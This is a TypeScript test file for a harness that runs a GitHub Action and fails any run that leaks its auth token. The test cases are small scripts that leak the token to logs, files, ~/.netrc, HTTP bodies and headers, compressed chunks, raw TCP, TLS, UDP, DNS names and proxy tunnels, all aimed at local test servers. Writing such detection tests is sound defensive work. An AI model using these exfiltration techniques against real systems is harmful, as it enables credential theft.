import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { testProxy } from '../security/proxy-support.js';
import { temporaryFolder } from '../support/workspace.js';
import { type RunOptions, type RunResult, runAction } from './harness.js';
import { watchRun } from './runner/watch.js';

/** Every run of the harness is searched for its secrets: actions that leak one, each in its own way, and one that does not. */

const SECRET = '6f1d9a3c77e24b08a5d0c1e2f3948576aabbccddeeff00112233445566778899';
const TOKEN = `sntryu_${SECRET}`;
const GITHUB_TOKEN = 'ghs_TokenThatGoesToGitHubAlone0123456789';

let folder: string;
let server: Server;
let other: Server;
beforeEach(async () => {
  folder = temporaryFolder('leaks');
  mkdirSync(join(folder, 'workspace'));
  const inputs = '{"auth_token":{"default":""},"url":{"default":""},"github_token":{"default":""}}';
  writeFileSync(join(folder, 'action.yml'), `inputs: ${inputs}\nruns: {using: node24, main: index.mjs}\n`);
  [server, other] = [await listen(), await listen()];
});
afterEach(() => {
  server.close();
  other.close();
  rmSync(folder, { recursive: true, force: true });
});

async function listen(): Promise<Server> {
  const made = createServer((request, response) => request.resume().on('end', () => response.end('{}')));
  await new Promise<void>((resolve) => made.listen(0, '127.0.0.1', resolve));
  return made;
}

const address = (of: Server) => `http://127.0.0.1:${(of.address() as AddressInfo).port}`;

const HEAD = `import fs from 'node:fs'; import net from 'node:net'; import tls from 'node:tls'; import zlib from 'node:zlib';
const { INPUT_AUTH_TOKEN: token, INPUT_URL: url, OTHER: other, INPUT_GITHUB_TOKEN: github } = process.env;
const print = (line) => process.stdout.write(line + '\\n');
const secret = token.split('_')[1];
const post = (to, body, headers = {}) => fetch(to, { method: 'POST', body, headers });
const chunk = (bytes) => post(url, Buffer.concat([Buffer.from('--B\\r\\nContent-Disposition: form-data\\r\\n\\r\\n'), bytes, Buffer.from('\\r\\n--B--\\r\\n')]), { 'content-type': 'multipart/form-data; boundary=B' });
`;

/** Runs a script as if it were the action. */
function run(script: string, options: Partial<RunOptions> = {}): Promise<RunResult> {
  const dist = join(folder, 'index.mjs');
  writeFileSync(dist, `${HEAD}${script}`);
  return runAction({
    cwd: join(folder, 'workspace'),
    actionFile: join(folder, 'action.yml'),
    dist,
    ...options,
    inputs: { auth_token: TOKEN, github_token: GITHUB_TOKEN, url: address(server) },
    env: { OTHER: address(other), GITHUB_API_URL: address(other), ...options.env },
  });
}

const LOCAL: Readonly<Record<string, string>> = {
  'in the log': `print('using ' + token)`,
  'on stderr, secret part only': `console.error('x' + secret)`,
  'in base64 behind other bytes': `print(Buffer.from('u:' + token).toString('base64'))`,
  'in hexadecimal': `print(Buffer.from(token).toString('hex'))`,
  'in the summary': `fs.appendFileSync(process.env.GITHUB_STEP_SUMMARY, token)`,
  'in an output': `fs.appendFileSync(process.env.GITHUB_OUTPUT, 'a=' + token + '\\n')`,
  'in the state': `fs.appendFileSync(process.env.GITHUB_STATE, 'a=' + token + '\\n')`,
  'in the report': `fs.writeFileSync(process.env.RUNNER_TEMP + '/r.json', JSON.stringify({ token })); fs.appendFileSync(process.env.GITHUB_OUTPUT, 'report=' + process.env.RUNNER_TEMP + '/r.json\\n')`,
  'in a file in RUNNER_TEMP': `fs.writeFileSync(process.env.RUNNER_TEMP + '/x', token)`,
  'in the home folder': `fs.writeFileSync(process.env.HOME + '/.netrc', token)`,
  'in a temporary file': `fs.writeFileSync(process.env.TMPDIR + '/x', token)`,
  'in a temporary file that is removed again': `const f = process.env.TMPDIR + '/x'; fs.writeFileSync(f, token); fs.unlinkSync(f)`,
  'in a folder that is removed again': `const { rm } = await import('node:fs/promises'); const f = process.env.TMPDIR + '/y'; fs.mkdirSync(f); fs.writeFileSync(f + '/x', token); await rm(f, { recursive: true })`,
  'in the workspace': `fs.mkdirSync('.git/x', { recursive: true }); fs.writeFileSync('.git/x/config', 'Bearer ' + token)`,
  'in a file of the workspace that was there before': `fs.appendFileSync('dist.js', '//' + secret)`,
  'in the name of a file': `fs.writeFileSync('a' + secret, '')`,
  'masked, but before the mask': `print(token); print('::add-mask::' + token)`,
  'in add-mask while commands are stopped': `print('::stop-commands::t0ken'); print('::add-mask::' + token)`,
};

const REMOTE: Readonly<Record<string, string>> = {
  'in the body of a request': `await post(url, JSON.stringify({ token }))`,
  'in a path': `await fetch(url + '/?key=' + secret)`,
  'in another header': `await fetch(url, { headers: { 'x-api-key': token } })`,
  'in the right header, in a body': `await post(url, 'authorization: Bearer ' + token)`,
  'in a chunk': `await chunk(Buffer.from(token))`,
  'in a chunk in gzip': `await chunk(zlib.gzipSync('some ' + token))`,
  // As zstd writes it, where Node has none: magic, a frame of one raw block that is the last.
  'in a chunk in zstd': `const b = Buffer.from(token); await chunk(Buffer.concat([Buffer.from([0x28, 0xb5, 0x2f, 0xfd, 0x20, b.length]), Buffer.from([(b.length << 3 | 1) & 255, b.length >> 5, 0]), b]))`,
  'in the right header, to another host': `await fetch(other, { headers: { authorization: 'Bearer ' + token } })`,
  'the token of GitHub, to Sentry': `await fetch(url, { headers: { authorization: 'Bearer ' + github } })`,
  'from a worker': `const { Worker } = await import('node:worker_threads'); await new Promise((r) => new Worker("fetch(process.env.OTHER, { method: 'POST', body: process.env.INPUT_AUTH_TOKEN })", { eval: true }).on('exit', r))`,
  'over a bare connection': `await new Promise((r) => net.connect(new URL(other).port, '127.0.0.1').end(token, r))`,
  'over TLS': `const s = tls.connect({ host: '127.0.0.1', port: new URL(other).port }); s.on('error', () => {}); s.write(token)`,
  'as the name of a host': `await fetch('http://' + secret.slice(0, 60) + '.invalid/').catch(() => {}); net.connect(9, secret + '.invalid').on('error', () => {})`,
  'in a datagram': `const { createSocket } = await import('node:dgram'); const s = createSocket('udp4'); s.send(token, 9, '127.0.0.1', () => s.close())`,
};

it.each(Object.entries({ ...LOCAL, ...REMOTE }))('a run fails that leaks its token %s', async (_where, script) => {
  writeFileSync(join(folder, 'workspace', 'dist.js'), 'foo()');
  await expect(run(script)).rejects.toThrow('leaked');
});

it('the token in its header to Sentry is no leak, that of GitHub to GitHub is none, nor a mask or a file of before', async () => {
  writeFileSync(join(folder, 'workspace', '.env'), `SENTRY_AUTH_TOKEN=${TOKEN}`);
  const { exitCode, conversations } = await run(`print('::add-mask::' + token);
await post(url, 'hello', { authorization: 'Bearer ' + token });
await fetch(other, { headers: { authorization: 'token ' + github } });`);
  expect(exitCode).toBe(0);
  expect(conversations.map(({ to }) => `http://${to}`)).toEqual([address(server), address(other)]);
  expect(conversations[0]?.bytes.toString()).toContain('hello');
});

describe('through a tunnel', () => {
  const tunnel = (header: string) => `const s = net.connect(new URL(process.env.https_proxy).port, '127.0.0.1');
s.write('CONNECT ' + new URL(url).host + ' HTTP/1.1\\r\\nproxy-authorization: Basic ' + Buffer.from('robot:' + secret).toString('base64') + '\\r\\n\\r\\n');
await new Promise((r) => s.once('data', r));
s.end('GET / HTTP/1.1\\r\\nhost: x\\r\\nconnection: close\\r\\n${header}\\r\\n\\r\\n'); s.resume();`;
  const through = async (script: string) => {
    const proxy = await testProxy();
    try {
      return await run(script, { env: { https_proxy: `http://127.0.0.1:${proxy.port}` } });
    } finally {
      await proxy.close();
    }
  };

  it('its own header is for whom the tunnel leads to', async () => {
    const { conversations } = await through(tunnel(`authorization: Bearer ' + token + '`));
    expect(conversations.map(({ to }) => `http://${to}`)).toContain(address(server));
  });

  it('any other header is a leak there', async () => {
    await expect(through(tunnel(`x-token: ' + token + '`))).rejects.toThrow('leaked');
  });
});

it('a run that no runner starts is searched in the same way', async () => {
  const env = { INPUT_AUTH_TOKEN: TOKEN, INPUT_URL: address(server) };
  const watched = (act: () => string) => watchRun({ folder, env }, async () => act());
  expect(await watched(() => 'hello')).toBe('hello');
  await expect(watched(() => TOKEN)).rejects.toThrow('leaked');
  await expect(
    watched(() => {
      writeFileSync(join(folder, 'x'), SECRET);
      return '';
    }),
  ).rejects.toThrow('leaked');
});
